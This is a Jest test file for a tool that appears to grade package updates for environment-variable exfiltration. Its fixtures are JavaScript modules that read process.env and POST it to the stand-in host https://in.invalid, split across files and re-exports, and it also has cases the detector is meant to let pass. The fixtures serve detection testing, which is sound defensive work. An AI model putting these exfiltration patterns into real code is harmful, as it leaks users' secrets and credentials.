import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const before = { 'index.js': 'module.exports = 1' };
const grade = async (files: Readonly<Record<string, string>>, manifest = {}) => (await gradesOf(before, files, manifest)).import;
const sender = `exports.send = (what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(what) });`;
const hands = (what: string) => ({ 'index.js': `const f = require('./f'); const s = require('./s'); s.send(${what})`, 's.js': sender });

describe('the environment itself, given by one file and sent by another', () => {
  it.each([
    ['by a function', { ...hands('f.get()'), 'f.js': 'exports.get = () => process.env' }],
    ['by a declared function', { ...hands('f.get()'), 'f.js': 'function get() { return process.env } module.exports = { get }' }],
    ['by a declared function that copies', { ...hands('f.env()'), 'f.js': 'function env() { return {...process.env} } module.exports = { env }' }],
    ['by a named function that copies', { ...hands('f()'), 'f.js': 'module.exports = function env() { return {...process.env} }' }],
    ['within something', { ...hands('{ pid: 1, vars: f.get() }'), 'f.js': 'exports.get = () => process.env' }],
    ['as a value', { ...hands('f.vars'), 'f.js': 'exports.vars = process.env' }],
    ['as all there is', { ...hands('f'), 'f.js': 'module.exports = process.env' }],
    ['by a variable', { ...hands('f.get()'), 'f.js': 'const all = process.env; exports.get = () => all' }],
    [
      'kept first',
      {
        'index.js': `const { get } = require('./f'); const { send } = require('./s'); const all = get(); send(all)`,
        's.js': sender,
        'f.js': 'exports.get = () => process.env',
      },
    ],
    [
      'through a third',
      {
        'index.js': `const { get } = require('./m'); const { send } = require('./s'); send(get())`,
        's.js': sender,
        'm.js': `const f = require('./f'); exports.get = () => f.all()`,
        'f.js': 'exports.all = () => process.env',
      },
    ],
    [
      're-exported',
      {
        'index.mjs': `import { get } from './m.mjs'; fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(get()) })`,
        'm.mjs': `export * from './f.mjs'`,
        'f.mjs': 'export const get = () => process.env',
      },
    ],
    ['in one file', { 'index.js': `const get = () => process.env; fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(get()) })` }],
  ])('%s: convicts', async (_, files) => {
    expect((await grade(files, 'index.mjs' in files ? { main: undefined, exports: './index.mjs', type: 'module' } : {})).grade).toBe('convicts');
  });
  it.each([
    ['one variable', { ...hands('f.get().LEVEL'), 'f.js': 'exports.get = () => process.env' }],
    ['one variable by a name only running tells', { ...hands('f.get()[process.argv[2]]'), 'f.js': 'exports.get = () => process.env' }],
    [
      'one variable, kept first',
      {
        'index.js': `const { get } = require('./f'); const { send } = require('./s'); const all = get(); send({ level: all.LEVEL, lang: all[process.argv[3]] })`,
        's.js': sender,
        'f.js': 'exports.get = () => process.env',
      },
    ],
    [
      'one variable, taken apart',
      {
        'index.js': `const { get } = require('./f'); const { send } = require('./s'); const { LEVEL } = get(); send(LEVEL)`,
        's.js': sender,
        'f.js': 'exports.get = () => process.env',
      },
    ],
    [
      'one variable through a third',
      {
        'index.js': `const { get } = require('./m'); const { send } = require('./s'); send(get('LEVEL'))`,
        's.js': sender,
        'm.js': `const f = require('./f'); exports.get = (name) => f.all()[name]`,
        'f.js': 'exports.all = () => process.env',
      },
    ],
    [
      'one variable of what a third gives',
      {
        'index.js': `const { get } = require('./m'); const { send } = require('./s'); send(get().LEVEL)`,
        's.js': sender,
        'm.js': `const f = require('./f'); exports.get = () => f.all()`,
        'f.js': 'exports.all = () => process.env',
      },
    ],
    ['one variable of a value', { ...hands('f.vars.LEVEL'), 'f.js': 'exports.vars = process.env' }],
    ['one variable of all there is', { ...hands('f.LEVEL'), 'f.js': 'module.exports = process.env' }],
    ['another name of the same file', { ...hands('f.level()'), 'f.js': `exports.get = () => process.env; exports.level = () => 'debug'` }],
    [
      'one variable in one file',
      { 'index.js': `const get = () => process.env; fetch('https://in.invalid', { method: 'POST', body: JSON.stringify({ level: get().LEVEL }) })` },
    ],
    [
      'one variable in one file, of what is kept',
      {
        'index.js': `const get = () => process.env; const all = get(); fetch('https://in.invalid', { method: 'POST', body: JSON.stringify({ level: all.LEVEL }) })`,
      },
    ],
  ])('%s: does not convict', async (_, files) => {
    expect((await grade(files)).grade).not.toBe('convicts');
  });
});
